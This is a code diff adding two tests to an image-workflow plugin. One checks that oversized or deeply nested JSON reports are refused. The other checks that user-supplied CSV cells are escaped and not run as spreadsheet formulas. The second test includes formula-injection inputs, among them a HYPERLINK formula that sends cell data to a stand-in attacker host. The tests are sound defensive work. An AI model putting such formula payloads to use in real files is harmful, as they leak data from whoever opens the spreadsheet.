@@ -498,3 +498,64 @@ def test_what_the_pack_saves_it_can_read_back(server, sentinels):
                        120)
     assert entry["status"]["status_str"] == "success"
     still_serves(server)
+
+
+def test_a_profile_revision_too_big_or_deep_to_read_back_is_never_written(server, sentinels):
+    # Record Character Result keeps a report with the LoRA; a report nested past what the profile reader
+    # takes, or records piling up past its size bound, would make every later Load Character refuse the
+    # profile (the user's character lost): refused when recorded, and the profile still loads
+    for i in range(2):
+        upload(server, f"r{i}.png", png(10 + i), type_="input", subfolder="deep_report_refs")
+    save = {"1": {"class_type": "ContinuityLoadImageFolder",
+                  "inputs": {"folder": "deep_report_refs", "mode": "list", "recursive": False, "start": 0, "limit": 0,
+                             "caption_extension": ".txt"}},
+            "2": {"class_type": "ContinuitySaveCharacter",
+                  "inputs": {"name": "deep_report", "trigger_word": "", "class_phrase": "", "style": "keep",
+                             "threshold": 0.0, "notes": "", "references": ["1", 0]}}}
+    assert server.run(save, 120)["status"]["status_str"] == "success"
+    load = {"1": {"class_type": "ContinuityLoadCharacter", "inputs": {"name": "deep_report", "revision": 0}}}
+
+    def record(report):
+        return dict(load, **{"2": {"class_type": "ContinuityRecordCharacterResult",
+                                   "inputs": {"character": ["1", 0], "lora_name": "x.safetensors", "stage": "1",
+                                              "report": report}}})
+    refused(server, record('{"a": ' + "[" * 30 + "]" * 30 + "}"), "Record Character Result", "report")
+    refused(server, record("[" * 100_000 + "]" * 100_000), "Record Character Result", "report")
+    refused(server, record(json.dumps({"a": [1] * 100_000})), "Record Character Result", "report")
+    entry = server.run(dict(load, **{"2": {"class_type": "PreviewAny", "inputs": {"source": ["1", 5]}}}), 120)
+    assert entry["status"]["status_str"] == "success"
+    still_serves(server)
+
+
+def test_report_csv_cells_from_users_are_text_not_formulas(server, sentinels):
+    # a set name or an uploaded file name that a spreadsheet would run as a formula, in the CSV report the
+    # team opens: every such cell is kept as text
+    import csv
+    import urllib.parse
+    import urllib.request
+    from pathlib import Path
+    face = (Path(__file__).resolve().parents[2] / "assets" / "faces" / "img1.jpg").read_bytes()
+    upload(server, "ref.jpg", face, type_="input", subfolder="csv_refs")
+    upload(server, "=1+2.jpg", face, type_="input", subfolder="csv_cands")
+    upload(server, "@SUM(1).jpg", face, type_="input", subfolder="csv_cands")
+    folder = {"class_type": "ContinuityLoadImageFolder",
+              "inputs": {"mode": "list", "recursive": False, "start": 0, "limit": 0, "caption_extension": ".txt"}}
+    entry = server.run({
+        "1": {**folder, "inputs": {**folder["inputs"], "folder": "csv_refs"}},
+        "2": {**folder, "inputs": {**folder["inputs"], "folder": "csv_cands"}},
+        "3": {"class_type": "ContinuityFaceSimilarity",
+              "inputs": {"references": ["1", 0], "candidates": ["2", 0], "model": "dlib", "face_policy": "largest",
+                         "set_name": '=HYPERLINK("http://attacker.example/?"&A1,"open")', "filenames": ["2", 2]}},
+        "4": {"class_type": "ContinuityConsistencyReport",
+              "inputs": {"scores_1": ["3", 0], "plot_model": "dlib", "save": True,
+                         "filename_prefix": "continuity/reports/csv_cells"}}}, 300)
+    assert entry["status"]["status_str"] == "success", entry["status"]
+    item = next(f for f in entry["outputs"]["4"]["continuity_files"] if f["filename"].endswith(".csv"))
+    q = urllib.parse.urlencode({"filename": item["filename"], "subfolder": item["subfolder"], "type": item["type"]})
+    with urllib.request.urlopen(f"http://127.0.0.1:{server.port}/view?{q}", timeout=30) as r:
+        rows = list(csv.reader(io.StringIO(r.read().decode("utf-8"))))
+    cells = [c for row in rows[1:] for c in row]
+    assert any("HYPERLINK" in c for c in cells) and any("=1+2" in c for c in cells)
+    for c in cells:
+        numeric = c.lstrip("-").replace(".", "", 1).isdigit()
+        assert numeric or not c.startswith(("=", "+", "-", "@")), f"a CSV cell a spreadsheet would run: {c!r}"
